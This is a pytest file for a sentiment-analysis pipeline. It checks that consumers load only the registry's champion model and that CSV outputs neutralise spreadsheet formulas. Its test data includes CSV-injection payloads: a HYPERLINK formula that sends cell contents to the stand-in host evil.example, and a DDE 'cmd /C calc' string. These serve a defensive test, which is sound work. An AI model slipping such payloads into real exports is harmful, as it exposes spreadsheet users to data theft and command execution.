"""What the consumers take in and hand out.

- Models come from the registry only: a consumer loads the version behind
  ``models:/<name>@champion``; a registered version that is not champion, a newer one not
  yet promoted, a ``runs:/`` URI or a file path given as the model name are all refused.
- CSV outputs cannot run as spreadsheet formulas: text cells starting with = + - @ tab or
  CR get a leading apostrophe (OWASP), numbers stay numbers, Parquet keeps the values as
  they came. Checked end to end: a hostile drop through ingestion and review insights.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import date, timedelta

import mlflow
import pandas as pd
import pytest

from pipeline import registry, steps
from pipeline.consumers.review_insights import run_review_insights
from pipeline.lake import Lake
from pipeline.settings import load_settings
from pipeline.tracking import configure_mlflow

DAY = date(2026, 10, 2)
FAMILY = "sentiment"
HOSTILE_SKUS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1-2",
                "-3", "\tTAB", "\rCR"]


class KeywordSentiment(mlflow.pyfunc.PythonModel):
    """A stand-in champion: 'other' for a text saying bad, else 'great'."""

    def predict(self, context, model_input, params=None):  # noqa: ANN001, ANN201
        bad = model_input["text"].str.contains("bad")
        return pd.DataFrame({"label": bad.map({True: "other", False: "great"}), "score": 0.9})


def registered_version(passed: bool, evaluated_against: str = "none") -> tuple[str, str]:
    """A run with a logged model, registered with its gate decision: (version, run id)."""
    settings = load_settings()
    configure_mlflow(settings)
    with mlflow.start_run() as run:
        info = mlflow.pyfunc.log_model(name="model", python_model=KeywordSentiment())
        mlflow.set_tags({"model_uri": info.model_uri, "logical_date": DAY.isoformat(),
                         "champion_version_at_evaluation": evaluated_against})
    failures = [] if passed else [{"reason": "macro_f1 0.41 is below the minimum 0.6"}]
    version = registry.register(settings, FAMILY, run.info.run_id, {"passed": passed, "failures": failures})
    return version, run.info.run_id


@pytest.fixture
def hostile_reviews(retail_env, monkeypatch) -> Lake:
    """A reviews drop whose skus and texts look like formulas, ingested: per hostile sku,
    3 bad reviews the day before and 3 good ones on the day (its negative share falls by 1)."""
    monkeypatch.setenv("RETAIL_NEGATIVE_JUMP_MIN_REVIEWS", "3")
    settings = load_settings()
    rows = []
    for i, sku in enumerate(HOSTILE_SKUS):
        for j in range(6):
            today = j >= 3
            rows.append({"review_id": f"r{i}-{j}", "sku": sku,
                         "text": ("great\r=cmd|' /C calc'!A0" if today else "-2+3 bad, really bad"),
                         "created_at": f"{DAY if today else DAY - timedelta(days=1)}T10:00:00"})
    landing = Lake(settings.landing)
    landing.write_text(landing.uri("reviews", DAY.isoformat(), "reviews.jsonl"),
                       "\n".join(json.dumps(r) for r in rows) + "\n")
    steps.land("reviews", DAY.isoformat())
    steps.validate("reviews", DAY.isoformat())
    return Lake(settings.lake_uri)


def csv_rows(lake: Lake, name: str) -> list[dict[str, str]]:
    text = lake.read_bytes(lake.uri("outputs", "review_insights", f"date={DAY}", f"{name}.csv")).decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_consumers_load_only_the_champion_from_the_registry(hostile_reviews):
    settings = load_settings()
    name = settings.model_name(FAMILY)
    failed, failed_run = registered_version(passed=False)
    with pytest.raises(LookupError, match=f"{name} has no champion yet"):  # registered is not enough
        run_review_insights(settings, DAY)
    assert not hostile_reviews.exists(hostile_reviews.uri("outputs", "review_insights"))

    # a model named by a run, a file or any URI instead of a registered name is refused
    local_model = mlflow.artifacts.download_artifacts(f"runs:/{failed_run}/model")
    for elsewhere in (f"runs:/{failed_run}/model", local_model, f"file://{local_model}", f"models:/{name}/{failed}"):
        pointed = settings.model_copy(update={"model_names": {**settings.model_names, FAMILY: elsewhere}})
        with pytest.raises(ValueError, match="not a registered model name"):
            run_review_insights(pointed, DAY)

    champion, _ = registered_version(passed=True)
    assert registry.promote(settings, FAMILY, champion)
    registered_version(passed=True, evaluated_against=champion)  # newer, not promoted
    run_review_insights(settings, DAY)
    scored = hostile_reviews.read_parquet(hostile_reviews.uri("outputs", "review_insights", f"date={DAY}",
                                                              "scored_reviews.parquet"))
    assert set(scored["model_version"]) == {champion} and set(scored["model_name"]) == {name}
    assert scored.groupby("label").size().to_dict() == {"great": 18, "other": 18}


def test_csv_outputs_neutralise_formulas_and_keep_numbers(hostile_reviews):
    settings = load_settings()
    champion, _ = registered_version(passed=True)
    registry.promote(settings, FAMILY, champion)
    run_review_insights(settings, DAY)

    scored = csv_rows(hostile_reviews, "scored_reviews")
    assert len(scored) == 6 * len(HOSTILE_SKUS)  # a CR inside a cell did not start a new row
    assert {row["sku"] for row in scored} == {"'" + sku for sku in HOSTILE_SKUS}  # every one starts with = + - @ \t \r
    assert {row["text"] for row in scored} == {"great\r=cmd|' /C calc'!A0", "'-2+3 bad, really bad"}
    outputs = hostile_reviews.list(hostile_reviews.uri("outputs"))
    names = [u.rsplit("/", 1)[-1][:-4] for u in outputs if u.endswith(".csv")]
    assert len(names) == 5
    for row in (row for name in names for row in csv_rows(hostile_reviews, name)):
        for cell in row.values():  # nothing a spreadsheet would run, in any CSV
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or is_number(cell), row
    for row in csv_rows(hostile_reviews, "sku_sentiment") + csv_rows(hostile_reviews, "sku_negative"):
        assert row["sku"].startswith("'"), row

    jumps = csv_rows(hostile_reviews, "negative_jumps")
    assert {row["sku"] for row in jumps} == {"'" + sku for sku in HOSTILE_SKUS}
    assert {row["jump"] for row in jumps} == {"-1.0"}  # a negative number stays a number
    assert {float(row["share_today"]) for row in jumps} == {0.0}

    # the Parquet output, for machines, keeps the values as they came
    parquet = hostile_reviews.read_parquet(hostile_reviews.uri("outputs", "review_insights", f"date={DAY}",
                                                               "negative_jumps.parquet"))
    assert sorted(parquet["sku"]) == sorted(HOSTILE_SKUS) and set(parquet["jump"]) == {-1.0}
